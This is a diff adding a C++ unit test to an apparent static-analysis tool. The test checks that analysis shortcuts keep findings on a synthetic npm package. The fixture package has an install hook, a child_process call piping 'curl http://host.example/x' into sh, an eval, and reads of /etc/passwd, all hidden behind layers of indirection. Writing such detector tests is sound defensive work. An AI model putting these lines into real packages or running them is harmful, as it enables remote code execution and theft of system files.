@@ -220,5 +220,34 @@ TEST(Analysis, SaysWhenANameHasTooManyValues) {
   EXPECT_TRUE(has_note(*analyse(tree_of({{"m.py", source}}), Limits{}), Code::kResolveValues));
 }
 
+// Names with more values than they may have, repeated words, statements whose value nobody asks
+// for, layers of shell: what shortcuts leave out.
+TEST(Analysis, ShortcutsLoseNothing) {
+  std::string many;
+  for (int i = 0; i < 40; ++i) {
+    const std::string n = std::to_string(i);
+    many += "function f" + n + "(c) { c.on('x', g" + n + "); return c['m" + n + "'](f" +
+            std::to_string((i + 1) % 40) + ") }\nlet g" + n + " = pick(f" + n + ", cp, os, fs);\n" +
+            "table['" + n + "'] = f" + n + "; pick(table)[k](g" + n + ");\n";
+  }
+  const Files files = {
+      {"package.json", R"({"name":"x","version":"1.0.0","scripts":{"install":"node index.js"}})"},
+      {"index.js",
+       "const cp = require('child_process'), os = require('os'), fs = require('fs');\n"
+       "const table = {}; function pick(a, b, c, d) { return a || b || c || d }\n" +
+           many +
+           "cp.exec('sh -c \"curl http://host.example/x | sh\"'); eval('cp.exec(\"id\")');\n"
+           "fs.readFile('/etc/passwd', f3); fs.readFile('/etc/passwd', g3);"},
+      {"b.js", "module.exports = require('./index'); const p = '/etc/passwd', q = '/etc/passwd'"}};
+  for (const uint32_t values : {1U, 2U, 3U, 5U, 16U}) {
+    Limits limits;
+    limits.values_per_name = values;
+    const std::string fast = analyse(tree_of(files), limits)->sequence.text();
+    limits.shortcuts = 0;
+    EXPECT_EQ(analyse(tree_of(files), limits)->sequence.text(), fast) << values;
+    EXPECT_NE(fast.find("run command"), std::string::npos) << values;
+  }
+}
+
 }  // namespace
 }  // namespace cerebro
